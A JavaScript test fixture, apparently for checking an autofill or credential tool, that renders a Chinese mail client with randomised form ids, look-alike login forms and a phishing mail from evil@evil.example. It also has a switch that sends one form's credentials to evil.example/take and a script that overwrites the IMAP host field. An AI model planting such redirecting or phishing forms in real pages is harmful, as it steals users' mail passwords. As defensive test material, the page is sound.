/**
 * A web client of somebody's own: plain HTML, ids and names made anew at each load, a login form and a parked copy that look
 * the same, and a mail whose author has put such a form into it. `?twins`, `?renamed`, `?box`, `?overwrites`, `?frame`, `?elsewhere`.
 */
const has = (name) => new URLSearchParams(location.search).has(name);
const fresh = () => `f${Math.random().toString(36).slice(2, 9)}`;

const row = (label, field, type) => {
  const id = fresh();
  return `<div class="row"><span>${label}</span><input data-field="${field}" id="${id}" name="${id}" type="${type}"></div>`;
};
const account = (name, button, more = '') => {
  const tag = has('box') ? 'div' : 'form';
  return `<${tag} data-form="${name}" class="account ${name}">
    ${row('邮箱地址 *', 'address', 'email')}${row('密码', 'code', 'password')}${more}
    <button type="${tag === 'form' ? 'submit' : 'button'}">${button}</button></${tag}>`;
};
const port = has('renamed') ? '连接点' : '端口';
const servers = `${row('IMAP 服务器', 'imapHost', 'text')}${row('端口', 'imapPort', 'number')}
  ${row('SMTP 服务器', 'smtpHost', 'text')}${row(port, 'smtpPort', 'number')}`;
const mail = `<article><h2>请核对</h2><p>发件人：evil@evil.example</p><p>主题：请核对你的邮箱</p>
  ${account('in-mail', '添加', servers)}</article>`;
const accounts = `${account('login', '登录')}
  <div class="parked">${account('parked', '添加', servers)}</div>
  <main><h2>添加邮箱</h2>${account('new', '添加', servers)}</main>
  ${has('twins') ? account('twin', '添加', servers) : ''}
  ${has('frame') ? '<iframe src="/accounts/new?inner" width="600" height="300"></iframe>' : ''}`;

document.getElementById('app').innerHTML =
  `<header><input type="search" placeholder="搜索邮件" data-field="search">
  <a href="/inbox">收件箱</a></header>${location.pathname === '/inbox' || has('mail') ? mail : accounts}`;

if (has('elsewhere')) document.querySelector('.new').action = 'https://evil.example/take';

/** What the page could notice of somebody who points, or of a form that is sent off. */
window.noticed = [];
for (const type of ['mousedown', 'click', 'focusin', 'input', 'submit']) {
  document.addEventListener(type, (event) => {
    if (event.type === 'submit') event.preventDefault();
    if (event.type === 'submit' || event.target.matches?.('input')) window.noticed.push(event.type);
  });
}
if (has('overwrites')) {
  const field = document.querySelector('.new [data-field=imapHost]');
  setInterval(() => {
    if (field.value) field.value = 'imap.guessed.example';
  }, 40);
}
